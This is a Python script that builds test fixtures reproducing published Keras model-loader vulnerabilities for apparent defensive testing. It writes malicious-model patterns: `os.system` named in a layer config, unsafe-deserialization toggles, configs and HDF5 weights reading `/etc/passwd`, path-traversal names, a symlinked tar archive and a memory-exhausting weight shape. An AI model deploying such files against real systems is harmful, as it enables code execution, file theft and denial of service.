"""One file for each published hole of Keras's loaders, as an attacker would send it, with a harmless payload.

Tools: keras 3.15.1 and tf_keras 2.21 on tensorflow-cpu 2.21, h5py. Run from the repository root:

    python tools/reference/keras_known_holes.py

Writes packages/formats/fixtures/known-holes/. Keras itself saves the Lambda layers; the rest is a small honest model whose
config or weights were changed.
"""

import os

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")
os.environ.setdefault("KERAS_BACKEND", "tensorflow")

import io
import json
import sys
import tarfile
import zipfile

import h5py
import keras
import numpy as np
import tf_keras
from fixture import ROOT

OUT = ROOT / "packages/formats/fixtures/known-holes"


def stack(k, *layers):
    return k.Sequential([k.Input((4,), name="rows"), *layers], name="stack")


def honest():
    """The parts of a `.keras` file of one Dense layer."""
    model = stack(keras, keras.layers.Dense(2, name="dense"))
    path = OUT / "honest.keras"
    model.save(path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    path.unlink()
    return parts


def write(name, parts):
    with zipfile.ZipFile(OUT / f"{name}.keras", "w") as archive:
        for entry, content in parts.items():
            archive.writestr(zipfile.ZipInfo(entry), content)


def with_config(name, change):
    parts = honest()
    config = json.loads(parts["config.json"])
    change(config["config"]["layers"])
    write(name, parts | {"config.json": json.dumps(config)})


def with_weights(name, change):
    parts = honest()
    buffer = io.BytesIO(parts["model.weights.h5"])
    with h5py.File(buffer, "a") as file:
        change(file["layers/dense/vars"])
    write(name, parts | {"model.weights.h5": buffer.getvalue()})


def layer(class_name, module="keras.layers", **config):
    return {"module": module, "class_name": class_name, "config": {"name": "trap", **config}, "registered_name": None}


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


if __name__ == "__main__":
    OUT.mkdir(parents=True, exist_ok=True)

    # Python code in a Lambda layer: Keras 2 `.h5`, Keras 3 `.h5` and `.keras`, and the JSON of one.
    stack(tf_keras, tf_keras.layers.Lambda(lambda x: x + 1, name="trap")).save(OUT / "cve-2024-3660.h5")
    lambda_model = stack(keras, keras.layers.Lambda(lambda x: x + 1, output_shape=(4,), name="trap"))
    lambda_model.save(OUT / "cve-2025-9905.h5")
    (OUT / "cve-2026-12481.json").write_text(lambda_model.to_json())

    # A config that names any function of any module, and functions of Keras that help.
    with_config("cve-2025-1550", lambda layers: layers[1]["config"].update(kernel_initializer=function("os", "system")))
    with_config("cve-2025-8747", lambda layers: layers[1]["config"].update(activation=function("keras.utils", "get_file")))
    unsafe = function("keras.config", "enable_unsafe_deserialization")
    with_config("cve-2025-9906", lambda layers: layers.insert(1, unsafe | {"name": "first"}))

    # Files and addresses in a config.
    lookup = layer("StringLookup", vocabulary="/etc/passwd", max_tokens=None, num_oov_indices=1)
    with_config("cve-2025-12058", lambda layers: layers.insert(1, lookup))
    saved_model = layer("TFSMLayer", filepath="/tmp/attacker/saved_model", call_endpoint="serve")
    with_config("cve-2026-1462", lambda layers: layers.insert(1, saved_model))
    with_config("cve-2026-12479", lambda layers: layers[1]["config"].update(name="../../../../tmp/escape"))

    # Archives that unpack beside where they should: by a name, and through a link.
    for name, entry, link in (("cve-2025-12060", "../../escape", None), ("cve-2025-12638", "inside", "/etc")):
        with tarfile.open(OUT / f"{name}.tar", "w") as archive:
            member = tarfile.TarInfo(entry)
            if link is not None:
                member.type, member.linkname = tarfile.SYMTYPE, link
            archive.addfile(member, io.BytesIO())

    # Weights that declare more than any memory holds, and weights that lie in another file.
    def huge(variables):
        del variables["0"]
        variables.create_dataset("0", shape=(1 << 40, 1 << 10), dtype="f4", chunks=(1 << 10, 1 << 10), compression="gzip")

    def outside(variables):
        del variables["0"]
        variables.create_dataset("0", shape=(4, 2), dtype="f4", external=[("/etc/passwd", 0, 32)])

    with_weights("cve-2026-0897", huge)
    with_weights("cve-2026-1669", outside)
    print(f"keras {keras.__version__}, tf_keras {tf_keras.__version__}, h5py {h5py.__version__}, numpy {np.__version__}", file=sys.stderr)
